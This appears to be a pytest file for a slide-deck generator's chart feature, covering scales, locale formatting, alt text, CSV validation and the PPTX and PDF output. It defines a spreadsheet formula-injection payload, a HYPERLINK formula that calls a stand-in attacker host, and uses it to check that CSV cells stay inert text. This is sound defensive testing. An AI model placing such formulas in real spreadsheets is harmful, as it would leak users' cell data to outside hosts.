"""Charts (issue 16): scales and ticks, numbers per locale, alt text, CSV data (hostile too), the PPTX's
native chart and its workbook read back, the PDF's text and tags, and LibreOffice opening the chart."""

from __future__ import annotations

import doctest
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from conftest import run_cli, run_cli_ok
from lxml import etree
from pdf_structure import read
from pptx import Presentation
from pptx.enum.chart import XL_CHART_TYPE

from deckgen import charts
from deckgen.brand import load_brand
from deckgen.compose import compose_deck
from deckgen.errors import DeckError
from deckgen.formatting import Formatter
from deckgen.i18n import localise, SourceTranslator
from deckgen.layouts import Phrases, Sandbox, environment, install, layout_path
from deckgen.load import load_deck
from deckgen.phrasebook import translator_for
from deckgen.scene import ChartFrame

MONTHS = [f"2010-{m:02d}" for m in range(9, 13)] + [f"2011-{m:02d}" for m in range(1, 9)]
TWEETUPS = [2, 3, 4, 5, 6, 5, 7, 8, 9, 6, 7, 8]
THIN = "\u2009"  # CLDR's interval: "September 2010 – August 2011", with thin spaces
NS = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart",
      "x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def deck_yaml(slides: str, language: str = "en") -> str:
    return f"""
    id: t
    title: Charts
    author: Test
    language: {language}
    date: 2011-09-01
    slides:
    {slides}
    """


COLUMN = """
      - kind: chart
        id: tweetups
        title: Tweetups over the year
        type: column
        subject: tweetups per month
        categories: [{months}]
        series:
          - name: Tweetups
            values: [{values}]
""".format(months=", ".join(MONTHS), values=", ".join(map(str, TWEETUPS)))


def scene_of(project: Path, folder: Path, locale: str | None = None):
    loaded = load_deck(project / folder)
    locale = locale or loaded.deck.language
    env = environment(layout_path(loaded.directory, project), Sandbox())
    install(env, translator_for(locale, None))
    deck = localise(loaded.deck, SourceTranslator())
    return compose_deck(deck, loaded.directory, load_brand(deck.brand, project), locale, Phrases(env))


def chart_of(scene, index: int = 0) -> ChartFrame:
    return [f for s in scene.slides for f in s.frames if isinstance(f, ChartFrame)][index]


# --- scales and ticks ----------------------------------------------------------------------------


def test_the_doctests_of_the_scales():
    assert doctest.testmod(charts).failed == 0


@pytest.mark.parametrize(("low", "high", "expect"), [
    (2, 9, (0, 10, 2)),
    (0, 60, (0, 60, 10)),
    (0, 1234.5, (0, 1250, 250)),
    (-3.5, 8, (-4, 8, 2)),
    (0, 0.37, (0, 0.4, 0.1)),
    (5, 5, (0, 5, 1)),
    (0, 0, (0, 1, 0.2)),
    (-7, -2, (-8, 0, 2)),
])
def test_nice_scales_start_at_zero_and_step_by_1_2_2_5_or_5(low, high, expect):
    scale = charts.nice_scale(low, high)
    assert (scale.minimum, scale.maximum, scale.step) == expect
    assert scale.ticks[0] == scale.minimum and scale.ticks[-1] == scale.maximum
    assert len(scale.ticks) <= 7


def test_tick_decimals_follow_the_step():
    assert charts.Scale(0, 10, 2.5).decimals == 1
    assert charts.Scale(0, 1, 0.05).decimals == 2
    assert charts.Scale(0, 1000, 250).decimals == 0


# --- numbers per locale -----------------------------------------------------------------------------


@pytest.mark.parametrize(("locale", "decimal", "percent"), [
    ("en", "1,234.5", "25.5%"),
    ("fr", "1\u202f234,5", "25,5\u00a0%"),
    ("de", "1.234,5", "25,5\u00a0%"),
])
def test_numbers_and_percentages_per_locale(locale, decimal, percent):
    fmt = Formatter(locale)
    assert fmt.decimal(1234.5, 1) == decimal
    assert fmt.percent(0.255, 1) == percent
    assert fmt.decimal(3, 1)[-2] in ",."  # fixed decimals: every label alike


@pytest.mark.parametrize(("locale", "label", "tick", "month"), [
    ("en", "1,234.5", "1,250", "Sep 2010"),
    ("fr", "1\u202f234,5", "1\u202f250", "sept. 2010"),
    ("de", "1.234,5", "1.250", "Sept. 2010"),
])
def test_axis_and_data_labels_are_formatted_per_locale(write_deck, project, locale, label, tick, month):
    values = ", ".join(map(str, TWEETUPS[:-1] + [1234.5]))
    folder = write_deck(deck_yaml(COLUMN.replace(", ".join(map(str, TWEETUPS)), values), locale))
    frame = chart_of(scene_of(project, folder))
    texts = {t.role: [] for t in frame.texts}
    for t in frame.texts:
        texts[t.role].append(t.text)
    assert label in texts["value"]
    assert tick in texts["axis"] and month in texts["axis"]
    assert frame.number_format == "#,##0.0" and frame.axis_format == "#,##0"


# --- alt text -----------------------------------------------------------------------------------------


def test_alt_text_is_made_from_the_data(write_deck, project):
    frame = chart_of(scene_of(project, write_deck(deck_yaml(COLUMN))))
    assert frame.alt == f"Column chart: tweetups per month, September 2010{THIN}–{THIN}August 2011, from 2 to 9"


def test_alt_text_is_in_the_decks_language(write_deck, project):
    fr = chart_of(scene_of(project, write_deck(deck_yaml(COLUMN, "fr"))))
    assert fr.alt == f"Histogramme\u202f: tweetups per month, septembre 2010{THIN}–{THIN}août 2011, de 2 à 9"
    de = chart_of(scene_of(project, write_deck(deck_yaml(COLUMN, "de"), "d")))
    assert de.alt.startswith("Säulendiagramm: tweetups per month, September 2010")
    assert de.alt.endswith("von 2 bis 9")


def test_alt_text_of_several_series_and_of_a_pie(write_deck, project):
    slides = COLUMN.replace("            values: [", "            values: [", 1) + """
          - name: Participants
            values: [10, 12, 14, 20, 22, 25, 30, 33, 40, 45, 50, 60]
      - kind: chart
        title: Members
        type: pie
        subject: members by country
        format: percent
        categories: [Germany, France, Italy]
        series: [{name: Members, values: [0.5, 0.3, 0.2]}]
    """
    scene = scene_of(project, write_deck(deck_yaml(slides)))
    assert chart_of(scene, 0).alt.endswith("Tweetups from 2 to 9 and Participants from 10 to 60")
    assert chart_of(scene, 1).alt == "Pie chart: members by country, Germany: 50%, France: 30%, and Italy: 20%"


def test_an_alt_text_written_in_the_deck_wins(write_deck, project):
    folder = write_deck(deck_yaml(COLUMN + "        alt: Tweetups grew all year.\n"))
    assert chart_of(scene_of(project, folder)).alt == "Tweetups grew all year."


# --- geometry: one set of numbers ---------------------------------------------------------------------


def test_column_geometry_follows_the_scale(write_deck, project):
    frame = chart_of(scene_of(project, write_deck(deck_yaml(COLUMN))))
    assert (frame.scale.minimum, frame.scale.maximum, frame.scale.step) == (0, 10, 2)
    bars = [m for m in frame.marks if m.shape == "rect"]
    assert len(bars) == 12
    plot = frame.plot
    for bar, v in zip(bars, TWEETUPS):
        assert bar.box.h == pytest.approx(plot.h * v / 10, abs=0.02)
        assert bar.box.y + bar.box.h == pytest.approx(plot.y + plot.h, abs=0.02)  # standing on zero
    slot = plot.w / 12
    assert bars[0].box.w == pytest.approx(slot / 1.6, abs=0.01)  # gap width 60 %, as the PPTX says
    assert len(frame.gridlines) == 6


def test_stacked_pie_and_line_geometry(write_deck, project):
    slides = """
      - kind: chart
        title: Stacked
        type: column
        stacked: true
        categories: [a, b]
        series: [{name: x, values: [1, 2]}, {name: y, values: [3, 4]}]
      - kind: chart
        title: Pie
        type: pie
        categories: [a, b, c]
        series: [{name: x, values: [1, 1, 2]}]
      - kind: chart
        title: Line
        type: line
        categories: [a, b, c]
        series: [{name: x, values: [1, ~, 3]}]
    """
    scene = scene_of(project, write_deck(deck_yaml(slides)))
    stacked, pie, line = (chart_of(scene, i) for i in range(3))
    assert stacked.scale.maximum == 6  # the tallest stack is 6
    a = [m.box for m in stacked.marks if m.shape == "rect" and m.point == 0]
    assert a[0].y == pytest.approx(a[1].y + a[1].h, abs=0.02)  # y sits on x
    wedges = [m.angles for m in pie.marks if m.shape == "wedge"]
    assert wedges == [(0, 90), (90, 180), (180, 360)]
    assert pie.scale is None and pie.legend == "r"
    assert not any(m.shape == "line" for m in line.marks)  # a gap: no line through a missing value
    assert sum(m.shape == "dot" for m in line.marks) == 2


def test_category_labels_too_long_are_shown_one_in_n_and_warned(write_deck, project):
    slides = """
      - kind: chart
        title: Long
        type: column
        categories: [{cats}]
        series: [{{name: x, values: [{vals}]}}]
    """.format(cats=", ".join(f"A rather long category label {i}" for i in range(20)),
               vals=", ".join("1" for _ in range(20)))
    folder = write_deck(deck_yaml(slides))
    frame = chart_of(scene_of(project, folder))
    assert frame.label_skip > 1
    result = run_cli_ok("build", folder, "--out", "out", "--format", "pptx")
    assert "category labels are too long" in result.stderr


# --- CSV data ------------------------------------------------------------------------------------------


CSV_SLIDE = """
      - kind: chart
        id: members
        title: Members by country
        type: bar
        data: data.csv
        names:
          - label: members
            name: Members
          - label: Germany
            name: Deutschland
"""


def write_csv(project: Path, folder: Path, text: str | bytes, name: str = "data.csv") -> Path:
    path = project / folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return path


def test_csv_data_with_a_formula_cell_stays_text(write_deck, project):
    folder = write_deck(deck_yaml(CSV_SLIDE))
    write_csv(project, folder, f'country,members\nGermany,40\nFrance,30\n"{HOSTILE.replace(chr(34), 2 * chr(34))}",5\n')
    frame = chart_of(scene_of(project, folder))
    assert frame.categories == ("Deutschland", "France", HOSTILE)  # renamed, as written, never evaluated
    assert frame.series[0].name == "Members" and frame.series[0].values == (40, 30, 5)


def test_csv_with_semicolons_and_decimal_commas(write_deck, project):
    folder = write_deck(deck_yaml(CSV_SLIDE.replace("          - label: Germany\n            name: Deutschland\n",
                                                    "")))
    write_csv(project, folder, "\ufeffcountry;members\nGermany;1.234,5\nFrance;\n")
    frame = chart_of(scene_of(project, folder))
    assert frame.series[0].values == (1234.5, None)


@pytest.mark.parametrize(("text", "where", "what"), [
    ("country,members\nGermany,40\nFrance,=1+2\n", "data.csv:3", "'=1+2' in column 'members' is not a number"),
    ("country,members\nGermany,40\nFrance,nan\n", "data.csv:3", "'nan' in column 'members' is not a number"),
    ("country,members\nGermany,1e400\n", "data.csv:2", "is not a number"),
    ("country,members\nGermany,40,3\n", "data.csv:2", "3 cells where the header has 2"),
    ("country,members\n", "data.csv:1", "needs a header row and at least one row of data"),
    ("country,\nGermany,4\n", "data.csv:1", "the header row names every series"),
    ('country,members\n"Germany,40\n', "data.csv", "not valid CSV"),
    (b"country,members\nK\xf6ln,4\n", "data.csv:2", "is not UTF-8"),
    ("country,members\nGermany,-4\n", "deck.yaml", "none below 0"),
])
def test_bad_csv_is_an_error_naming_file_and_line(write_deck, project, text, where, what):
    folder = write_deck(deck_yaml(CSV_SLIDE.replace("type: bar", "type: pie")
                                  .replace("          - label: Germany\n            name: Deutschland\n", "")))
    write_csv(project, folder, text)
    result = run_cli("build", folder, "--out", "out")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert where in result.stderr and what in result.stderr, result.stderr
    assert not (project / "out").exists() or not any((project / "out").rglob("*.pptx"))


def test_csv_size_and_shape_are_bounded(write_deck, project):
    folder = write_deck(deck_yaml(CSV_SLIDE.replace("          - label: Germany\n            name: Deutschland\n", "")))
    write_csv(project, folder, "country,members\n" + "x,1\n" * 200)
    result = run_cli("build", folder, "--out", "out")
    assert result.exit_code == 1 and f"at most {charts.MAX_CATEGORIES} categories" in result.stderr
    write_csv(project, folder, "a,b\n" + "x," + "1" * (charts.MAX_CSV_BYTES + 1) + "\n")
    result = run_cli("build", folder, "--out", "out")
    assert result.exit_code == 1 and "larger than" in result.stderr


def test_csv_outside_the_deck_folder_is_refused(write_deck, project, tmp_path):
    folder = write_deck(deck_yaml(CSV_SLIDE.replace("          - label: Germany\n            name: Deutschland\n", "")))
    outside = tmp_path / "secret.csv"
    outside.write_text("a,b\nx,1\n", encoding="utf-8")
    (project / folder / "data.csv").symlink_to(outside)
    result = run_cli("build", folder, "--out", "out")
    assert result.exit_code == 1 and "symbolic link" in result.stderr and "Traceback" not in result.output


def test_a_name_for_a_label_the_csv_lacks_is_an_error_at_its_line(write_deck, project):
    folder = write_deck(deck_yaml(CSV_SLIDE.replace("label: Germany", "label: Germny")))
    write_csv(project, folder, "country,members\nGermany,40\n")
    result = run_cli("build", folder, "--out", "out")
    assert result.exit_code == 1
    assert re.search(r"deck\.yaml:\d+:\d+: slide members: 'Germny' is not a label of data\.csv; did you mean "
                     r"'Germany'\?", result.stderr), result.stderr


@pytest.mark.parametrize(("extra", "what"), [
    ("series: [{name: x, values: [1, 2]}]\n        categories: [a]", "has 2 values for 1 categories"),
    ("series: [{name: x, values: [.inf]}]\n        categories: [a]", "finite"),
    ("stacked: true\n        series: [{name: x, values: [1]}]\n        categories: [a]", None),
    ("data: data.csv\n        categories: [a]", "not both"),
])
def test_inline_data_is_checked(write_deck, project, extra, what):
    kind = "line" if "stacked" in extra else "column"
    slides = f"""
      - kind: chart
        title: T
        type: {kind}
        {extra}
    """
    result = run_cli("build", write_deck(deck_yaml(slides)), "--out", "out")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert (what or "'stacked' is for bar and column charts") in result.stderr, result.stderr


# --- i18n and the schema -----------------------------------------------------------------------------------


def test_extraction_takes_names_and_labels_but_not_months_or_csv_cells(write_deck, project):
    folder = write_deck(deck_yaml(COLUMN + CSV_SLIDE))
    write_csv(project, folder, f"country,members\nGermany,40\n\"{HOSTILE.replace(chr(34), 2 * chr(34))}\",5\n")
    run_cli_ok("i18n", "extract", folder)
    pot = (project / folder / "locales" / "deck.pot").read_text(encoding="utf-8")
    for context, text in [("tweetups.subject", "tweetups per month"), ("tweetups.series.name", "Tweetups"),
                          ("members.names.name", "Members"), ("members.names.name", "Deutschland")]:
        assert f'msgctxt "{context}"\nmsgid "{text}"' in pot
    assert "2010-09" not in pot and "HYPERLINK" not in pot


def test_the_schema_knows_the_chart_kind():
    import json

    from deckgen.model import deck_json_schema

    schema = deck_json_schema()
    assert "chart" in schema["properties"]["slides"]["items"]["discriminator"]["mapping"]
    committed = json.loads((Path(__file__).parents[1] / "decks" / "deck.schema.json").read_text(encoding="utf-8"))
    assert committed == json.loads(json.dumps(schema))


# --- the PPTX: a native chart and its workbook ---------------------------------------------------------------


def _workbook(chart) -> tuple[list[str], list[list[tuple[str, str | None, str | None]]]]:
    """The embedded workbook: its shared strings, and each row's cells as (type, value, formula)."""
    blob = chart.part.chart_workbook.xlsx_part.blob
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        strings = [si.findtext(".//x:t", namespaces=NS) or "" for si in
                   etree.fromstring(z.read("xl/sharedStrings.xml")).findall("x:si", NS)]
        sheet = etree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iterfind(".//x:row", NS):
        rows.append([(c.get("t"), c.findtext("x:v", namespaces=NS), c.findtext("x:f", namespaces=NS))
                     for c in row.iterfind("x:c", NS)])
    return strings, rows


@pytest.fixture
def built_charts(write_deck, project):
    folder = write_deck(deck_yaml(COLUMN + CSV_SLIDE, "fr"))
    write_csv(project, folder, f"country,members\nGermany,40\nFrance,30\n\"{HOSTILE.replace(chr(34), 2 * chr(34))}\",5\n")
    run_cli_ok("build", folder, "--out", "out")
    return project / "out" / "t" / "fr"


def test_the_pptx_has_native_charts_with_the_decks_numbers(built_charts):
    prs = Presentation(built_charts / "t-fr.pptx")
    found = [sh for s in prs.slides for sh in s.shapes if sh.has_chart]
    assert len(found) == 2
    column, bar = (sh.chart for sh in found)
    assert column.chart_type == XL_CHART_TYPE.COLUMN_CLUSTERED and bar.chart_type == XL_CHART_TYPE.BAR_CLUSTERED
    assert list(column.plots[0].categories)[:2] == ["sept. 2010", "oct. 2010"]
    assert list(column.plots[0].series[0].values) == TWEETUPS
    axis = column.value_axis
    assert (axis.minimum_scale, axis.maximum_scale, axis.major_unit) == (0, 10, 2)
    assert found[0]._element.nvGraphicFramePr.cNvPr.get("descr").startswith("Histogramme\u202f: tweetups per month")
    xml = etree.fromstring(column.part.blob)
    layout = xml.find(".//c:plotArea/c:layout/c:manualLayout", NS)
    assert layout.find("c:layoutTarget", NS).get("val") == "inner"
    assert float(layout.find("c:w", NS).get("val")) > 0.8
    assert xml.find(".//c:barChart/c:gapWidth", NS).get("val") == "60"
    fonts = {e.get("typeface") for e in xml.iter("{http://schemas.openxmlformats.org/drawingml/2006/main}latin")}
    assert fonts == {"Noto Sans"}
    fills = {e.get("val") for e in xml.iterfind(".//c:ser/c:spPr//{*}srgbClr", NS)}
    assert fills == {"0B4F6C"}  # the brand's primary colour
    assert column.plots[0].data_labels.number_format == "#,##0"


def test_the_workbook_holds_plain_strings_and_numbers(built_charts):
    prs = Presentation(built_charts / "t-fr.pptx")
    column, bar = (sh.chart for s in prs.slides for sh in s.shapes if sh.has_chart)
    strings, rows = _workbook(column)
    assert strings[:2] == ["sept. 2010", "oct. 2010"] and "Tweetups" in strings
    assert [float(r[1][1]) for r in rows[1:]] == TWEETUPS
    strings, rows = _workbook(bar)
    assert HOSTILE in strings and "Deutschland" in strings and "Members" in strings
    cells = [c for r in rows for c in r]
    assert all(formula is None for _, _, formula in cells)  # no formula anywhere
    hostile_row = rows[3]
    assert hostile_row[0][0] == "s" and strings[int(hostile_row[0][1])] == HOSTILE
    assert [float(r[1][1]) for r in rows[1:]] == [40, 30, 5]


def test_equal_decks_give_equal_pptx_bytes(built_charts, project):
    first = (built_charts / "t-fr.pptx").read_bytes()
    run_cli_ok("build", "decks/t", "--out", "again")
    assert (project / "again" / "t" / "fr" / "t-fr.pptx").read_bytes() == first


# --- the PDF: the same numbers, as text, in a tagged figure ---------------------------------------------------


def test_the_pdf_shows_the_formatted_labels_as_text(built_charts):
    text = subprocess.run(["pdftotext", "-layout", str(built_charts / "t-fr.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout
    for label in ("sept. 2010", "août 2011", "Deutschland", "Members", "10"):
        assert label in text
    assert "HYPERLINK" in text  # drawn as the text it is


def test_the_pdf_chart_is_a_figure_with_its_alt_text(built_charts):
    structure = read(built_charts / "t-fr.pdf")
    assert structure.problems == []
    alts = [f.alt for f in structure.figures()]
    assert alts[0].startswith("Histogramme\u202f: tweetups per month, septembre 2010")
    assert alts[1].startswith("Graphique en barres\u202f: Members by country")


# --- LibreOffice opens the chart ---------------------------------------------------------------------------


@pytest.mark.slow
def test_libreoffice_opens_the_charts(built_charts, tmp_path):
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("soffice (LibreOffice) is not installed; CI must install it")
        pytest.skip("soffice (LibreOffice) is not installed")
    proc = subprocess.run([soffice, "--headless", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                           "--convert-to", "pdf", "--outdir", str(tmp_path), str(built_charts / "t-fr.pptx")],
                          capture_output=True, text=True, timeout=300)
    pdf = tmp_path / "t-fr.pdf"
    assert proc.returncode == 0 and pdf.is_file(), proc.stderr
    pages = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                           check=True).stdout.split("\f")
    assert "sept. 2010" in pages[0] and "Deutschland" in pages[1]  # the charts' own labels, drawn by LibreOffice
    png = tmp_path / "page"
    subprocess.run(["pdftoppm", "-r", "20", "-png", "-f", "1", "-l", "1", str(pdf), str(png)], check=True)
    from PIL import Image, ImageStat

    with Image.open(next(tmp_path.glob("page*.png"))) as im:
        assert ImageStat.Stat(im.convert("L")).stddev[0] > 10  # not an empty page


def test_an_empty_stacked_segment_has_no_bar_and_no_label_in_either_output(write_deck, project):
    slides = """
      - kind: chart
        title: Stacked
        type: column
        stacked: true
        categories: [a, b]
        series: [{name: x, values: [1, 2]}, {name: y, values: [3, 0]}]
    """
    folder = write_deck(deck_yaml(slides))
    frame = chart_of(scene_of(project, folder))
    assert not any(m.series == 1 and m.point == 1 for m in frame.marks)
    assert [t.text for t in frame.texts if t.role == "value"] == ["1", "3", "2"]
    run_cli_ok("build", folder, "--out", "out", "--format", "pptx")
    chart = next(sh.chart for s in Presentation(project / "out/t/en/t-en.pptx").slides for sh in s.shapes
                 if sh.has_chart)
    xml = etree.fromstring(chart.part.blob)
    deleted = xml.findall(".//c:ser[2]/c:dLbls/c:dLbl[c:delete]", NS)
    assert [d.find("c:idx", NS).get("val") for d in deleted] == ["1"]


def test_a_translated_deck_translates_the_charts_names_and_formats_its_numbers(write_deck, project):
    from babel.messages.pofile import read_po, write_po

    folder = write_deck(deck_yaml(COLUMN + CSV_SLIDE))
    write_csv(project, folder, "country,members\nGermany,1234.5\nFrance,30\n")
    run_cli_ok("i18n", "init", folder, "fr")
    po = project / folder / "locales" / "fr" / "LC_MESSAGES" / "deck.po"
    with po.open("rb") as f:
        catalog = read_po(f)
    words = {"Tweetups over the year": "Les tweetups de l’année", "tweetups per month": "tweetups par mois",
             "Tweetups": "Tweetups", "Members by country": "Membres par pays", "Members": "Membres",
             "Deutschland": "Allemagne", "Charts": "Graphiques"}
    for m in catalog:
        if m.id in words:
            m.string = words[m.id]
    with po.open("wb") as f:
        write_po(f, catalog)
    result = run_cli_ok("build", folder, "--out", "out", "--locale", "fr", "--strict")
    assert "Warning" not in result.stderr
    prs = Presentation(project / "out/t/fr/t-fr.pptx")
    column, bar = (sh for s in prs.slides for sh in s.shapes if sh.has_chart)
    assert column._element.nvGraphicFramePr.cNvPr.get("descr") == (
        f"Histogramme\u202f: tweetups par mois, septembre 2010{THIN}–{THIN}août 2011, de 2 à 9")
    assert [s.name for s in bar.chart.plots[0].series] == ["Membres"]
    assert list(bar.chart.plots[0].categories) == ["Allemagne", "France"]
    strings, _ = _workbook(bar.chart)
    assert "Allemagne" in strings and "Membres" in strings
    text = subprocess.run(["pdftotext", str(project / "out/t/fr/t-fr.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout
    # the narrow no-break space of French grouping shares the space's glyph: pdftotext reads it as a space
    assert "1 234,5" in text.replace("\u202f", " ") and "Allemagne" in text and "sept. 2010" in text


def test_a_changed_csv_file_rebuilds_and_redraws_its_chart(write_deck, project):
    from deckgen.live import LiveDeck

    folder = write_deck(deck_yaml(CSV_SLIDE.replace("          - label: Germany\n            name: Deutschland\n", "")
                                  + COLUMN))
    csv_file = write_csv(project, folder, "country,members\nGermany,40\n")
    run_cli_ok("build", folder, "--out", "out", "--format", "pptx")
    write_csv(project, folder, "country,members\nGermany,41\n")
    result = run_cli_ok("build", folder, "--out", "out", "--format", "pptx")
    assert "wrote" in result.stderr + result.output  # the fingerprint covers the deck folder, the CSV too
    live = LiveDeck(folder)
    live.view("en")
    write_csv(project, folder, "country,members\nGermany,42\n")
    (update,) = [p for _, p in live.refresh([csv_file.resolve()])]
    assert list(update["slides"]) == ["0"]  # the chart slide of the CSV file only (counted from 0)


# --- the example yearly report ---------------------------------------------------------------------------


REPORT = Path("decks") / "hcsmeu-yearly-report"


@pytest.mark.parametrize(("locale", "names", "first"), [
    ("en", ["Tweetups", "Quarterly meetings"], "Sep 2010"),
    ("fr", ["Tweetups", "Rencontres trimestrielles"], "sept. 2010"),
])
def test_the_yearly_report_has_its_chart_in_both_locales(project, locale, names, first):
    shutil.copytree(Path(__file__).parents[1] / REPORT, project / REPORT)
    run_cli_ok("build", REPORT, "--out", "out", "--locale", locale, "--strict")
    pptx = project / "out" / REPORT.name / locale / f"{REPORT.name}-{locale}.pptx"
    (frame,) = [sh for s in Presentation(pptx).slides for sh in s.shapes if sh.has_chart]
    chart = frame.chart
    assert chart.chart_type == XL_CHART_TYPE.COLUMN_STACKED
    assert [s.name for s in chart.plots[0].series] == names
    categories = list(chart.plots[0].categories)
    assert len(categories) == 12 and categories[0] == first
    assert list(chart.plots[0].series[0].values) == [1] * 12  # a tweetup every month
    assert [i for i, v in enumerate(chart.plots[0].series[1].values) if v] == [2, 5, 8]  # Nov, Feb, May
    strings, rows = _workbook(chart)
    assert names[1] in strings and all(f is None for r in rows for _, _, f in r)
    assert (chart.value_axis.maximum_scale, chart.value_axis.major_unit) == (2, 1)  # counts: whole ticks
